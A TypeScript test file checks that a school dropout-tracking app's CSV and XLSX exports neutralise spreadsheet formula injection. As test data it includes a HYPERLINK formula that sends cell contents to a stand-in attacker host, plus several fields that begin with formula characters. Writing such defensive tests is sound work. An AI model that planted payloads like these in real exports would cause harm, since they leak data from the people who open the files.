/** Exports neutralise formula injection: text starting with = + - @ (or tab, CR) is written as text. */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { safeCell, safeRow } from '../../src/reports/safe-cell.js';
import { rosterCsv, rosterXlsx } from '../../src/reports/roster.js';
import { monthlyReportXlsx } from '../../src/reports/monthly-report.xlsx.js';
import type { Figures, MonthlyReportModel } from '../../src/reports/monthly-model.js';
import type { CaseInArea } from '../../src/services/roster.js';
import { DEFAULT_TARGETS } from '../../src/domain/rates.js';

const arrayBuffer = (b: Buffer) => b.buffer.slice(b.byteOffset, b.byteOffset + b.length) as ArrayBuffer;
const startsLikeFormula = /^[=+\-@\t\r]/;

describe('safeCell', () => {
  it('prefixes an apostrophe to text that a spreadsheet would run', () => {
    for (const bad of ['=HYPERLINK("http://x","点我")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(safeCell(bad)).toBe(`'${bad}`);
  });
  it('leaves ordinary text, numbers and empty cells alone', () => {
    for (const ok of ['张三', 'G1100001', '2026-11-20', '三(2)班', '', "'已引用", 'a=b']) expect(safeCell(ok)).toBe(ok);
    expect(safeRow([1, -5, '=1', null])).toEqual([1, -5, "'=1", null]);
  });
});

describe('the dropout roster export', () => {
  const evil = {
    row: { id: 7, openedOn: '2026-11-02' },
    s: {
      name: '=HYPERLINK("http://evil.example/?"&A1,"张三")',
      gender: 'M',
      studentNo: '@1',
      class: { name: '三(2)班', school: { name: '+青石小学' } },
      village: { name: '-东山村', town: { name: '青石镇' } },
      guardian: '\t=1+1',
      guardianPhone: '13812345678',
    },
    c: { state: 'detected', visits: [], noticeDeadline: undefined },
  } as unknown as CaseInArea;

  it('CSV: no cell starts with a formula character', () => {
    const cells = rosterCsv([evil])
      .split('\r\n')[1]!
      .split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .map((c) => c.replace(/^"|"$/g, ''));
    expect(cells[2]).toBe(`'=HYPERLINK(""http://evil.example/?""&A1,""张三"")`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: every text cell stays text that starts with an apostrophe', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(arrayBuffer(await rosterXlsx('花名册', '共 1 人', [evil])));
    const row = wb.worksheets[0]!.getRow(4);
    const values = (row.values as unknown[]).slice(1);
    expect(values[2]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"张三")`);
    for (const v of values) if (typeof v === 'string') expect(v).not.toMatch(/^[=+\-@\t\r]/);
    row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
  });
});

describe('the monthly report export', () => {
  it('a school or student named like a formula is written as text; the figures stay numbers', async () => {
    const f: Figures = {
      atTermStart: 10,
      current: 9,
      transferredIn: 0,
      transferredOut: 0,
      suspended: 0,
      borrowing: 0,
      droppedMonth: 1,
      droppedTerm: 1,
      returnedTerm: 0,
      dropoutRate: 0.1,
      retentionRate: 0.9,
    };
    const m: MonthlyReportModel = {
      title: '=青石镇控辍保学月报表',
      rowHeader: '学校',
      countyName: '示范县',
      townName: '青石镇',
      schoolName: '',
      month: '2026-11',
      termName: '2026秋',
      termStart: '2026-09-01',
      asOf: '2026-11-20',
      rows: [{ stage: 'primary', grade: 0, label: '@青石小学', ...f }],
      stages: [{ stage: 'primary', label: '小学', figures: f, breaches: [] }],
      total: f,
      targets: DEFAULT_TARGETS,
      unitRates: { consolidation: { missing: '未导入（=青石小学 2018 年一年级入学人数）' } },
      breaches: [],
      notes: ['九年义务教育巩固率：未导入（=青石小学 2018 年一年级入学人数）', '=说明'],
      cases: [
        {
          id: 3,
          name: '-张三',
          studentNo: '@123',
          className: '+三(2)班',
          village: '=东山村',
          state: '已登记',
          openedOn: '2026-11-02',
          responsible: '\t=周老师',
          confirmed: true,
          reason: '=外出务工',
          visits: '-',
          attention: '+',
          since: '2026-11-01',
          step: '',
        },
      ],
    };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(arrayBuffer(await monthlyReportXlsx(m)));
    const texts: string[] = [];
    const formulas: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) =>
          cell.type === ExcelJS.ValueType.Formula ? formulas.push(cell.formula) : typeof cell.value === 'string' && texts.push(cell.value),
        ),
      );
    expect(texts).toEqual(expect.arrayContaining(["'=说明", "'@青石小学", "'-张三", "'+三(2)班", "'=东山村", "'\t=周老师", "'=外出务工", "'@123"]));
    expect(texts.filter((t) => startsLikeFormula.test(t))).toEqual([]);
    // the only formulas are the form's own subtotals and totals over its cell ranges
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).toMatch(/^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|SUMIF\(\$A\$\d+:\$A\$\d+,"(小学|初中)",[A-Z]+\d+:[A-Z]+\d+\))$/);
    expect(wb.worksheets[0]!.getRow(6).getCell(3).value).toBe(10);
  });
});
